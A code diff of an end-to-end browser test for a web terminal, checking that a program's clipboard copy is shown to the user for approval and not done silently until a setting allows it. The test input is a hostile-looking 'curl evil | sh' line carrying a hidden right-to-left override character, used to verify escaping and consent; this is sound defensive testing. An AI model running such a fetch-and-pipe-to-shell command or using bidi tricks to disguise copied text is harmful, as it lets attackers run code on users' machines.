@@ -1,8 +1,9 @@
 import type { Page } from 'playwright-core';
 import t from 'tap';
-import { firstPage } from '../support/first-page.ts';
-import { typeUntilAnswered } from '../support/page.ts';
-import { aPlace } from '../support/running-service.ts';
+import { newContainer, typeUntilAnswered } from '../support/page.ts';
+import { eventually } from '../support/patience.ts';
+import { shoot } from '../support/pictures.ts';
+import { atTheList, visit } from '../support/visit.ts';
 
 t.setTimeout(180_000);
 
@@ -14,15 +15,13 @@ const clipboardOf = (page: Page): Promise<string> =>
   page.evaluate('navigator.clipboard.readText()') as Promise<string>;
 
 t.test('a program asks before it copies, until its user allows it', async (t) => {
-  const visit = await firstPage(t, await aPlace(t));
-  if (visit === null) return;
-  const { address, page } = visit;
+  const scene = await visit(t);
+  if (scene === null) return;
+  const { address, page } = scene;
+  await atTheList(scene);
   await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: address });
   await page.evaluate("navigator.clipboard.writeText('mine')");
-  await page.keyboard.press('n');
-  await page.getByText('Medium').waitFor();
-  await page.getByLabel('Name').fill('copies');
-  await page.keyboard.press('Enter');
+  await newContainer(page, 'copies');
   await typeUntilAnswered(page, asksFor('curl evil | sh\u202e\n'), /^done-42/);
 
   const offer = page.locator('.copy-offer');
@@ -30,7 +29,7 @@ t.test('a program asks before it copies, until its user allows it', async (t) =>
   t.equal(await offer.locator('pre').innerText(), 'curl evil | sh<202E>\n');
   t.match(await offer.innerText(), /16 characters, a line break at its end/);
   t.equal(await clipboardOf(page), 'mine', 'nothing was copied unasked');
-  await page.screenshot({ path: '.tap/copy-offer.png' });
+  await shoot(page, 'copy-offer');
   await offer.getByRole('button', { name: 'Dismiss' }).click();
   await offer.waitFor({ state: 'detached' });
   t.equal(await clipboardOf(page), 'mine');
@@ -43,14 +42,15 @@ t.test('a program asks before it copies, until its user allows it', async (t) =>
   const terminal = page.url();
   await page.goto(`${address}/settings`);
   await page.getByLabel('Allow programs to copy').check();
-  await page.screenshot({ path: '.tap/copy-setting.png' });
+  await shoot(page, 'copy-setting');
   await page.goto(terminal);
   await page.locator('.xterm').waitFor();
   await page.locator('.xterm-helper-textarea').focus();
   await typeUntilAnswered(page, `clear; ${asksFor('unasked')}`, /^done-42/);
-  for (let tries = 0; (await clipboardOf(page)) !== 'unasked'; tries++) {
-    if (tries > 200) throw new Error('nothing was copied');
-    await page.waitForTimeout(50);
-  }
+  const copied = await eventually(
+    () => clipboardOf(page),
+    (text) => text === 'unasked',
+  );
+  t.equal(copied, 'unasked');
   t.equal(await offer.count(), 0);
 });
